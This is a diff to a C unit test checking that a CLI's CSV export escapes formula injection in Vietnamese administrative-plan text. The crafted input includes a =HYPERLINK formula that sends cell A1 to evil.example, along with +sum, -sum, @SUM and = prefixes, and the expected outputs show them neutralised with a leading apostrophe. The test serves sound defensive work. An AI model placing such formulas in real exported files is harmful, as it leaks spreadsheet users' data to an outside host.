@@ -1611,8 +1611,8 @@ START_TEST(cli_csv_crafted_plan) {
       "KẾ HOẠCH\nCải cách hành chính năm 2026\nI. MỤC TIÊU\n"
       "=HYPERLINK(\"http://evil.example/?q=\"&A1;\"Tỷ lệ hồ sơ giải quyết "
       "đúng hạn đạt 98%\")\n"
-      "+ Tỷ lệ thủ tục hành chính được công khai đạt 100%.\n"
-      "- Tỷ lệ hồ sơ trực tuyến toàn trình đạt tối thiểu 80%.\n"
+      "+sum(1) Tỷ lệ thủ tục hành chính được công khai đạt 100%.\n"
+      "-sum(1) Tỷ lệ hồ sơ trực tuyến toàn trình đạt tối thiểu 80%.\n"
       "@SUM(1+1) Tỷ lệ người dân hài lòng đạt trên 90%.\n"
       "=1+2 Tỷ lệ văn bản điện tử đạt 95%.\n";
   char *dir = harness_make_dir("crafted");
@@ -1630,8 +1630,10 @@ START_TEST(cli_csv_crafted_plan) {
     const char *text, *comparator, *value;
   } want[] = {
       {NULL, "'=", "98"},
-      {"'+ Tỷ lệ thủ tục hành chính được công khai đạt 100%", "'=", "100"},
-      {"'- Tỷ lệ hồ sơ trực tuyến toàn trình đạt tối thiểu 80%", ">=", "80"},
+      {"'+sum(1) Tỷ lệ thủ tục hành chính được công khai đạt 100%", "'=",
+       "100"},
+      {"'-sum(1) Tỷ lệ hồ sơ trực tuyến toàn trình đạt tối thiểu 80%", ">=",
+       "80"},
       {"'@SUM(1+1) Tỷ lệ người dân hài lòng đạt trên 90%", ">", "90"},
       {"'=1+2 Tỷ lệ văn bản điện tử đạt 95%", "'=", "95"},
   };
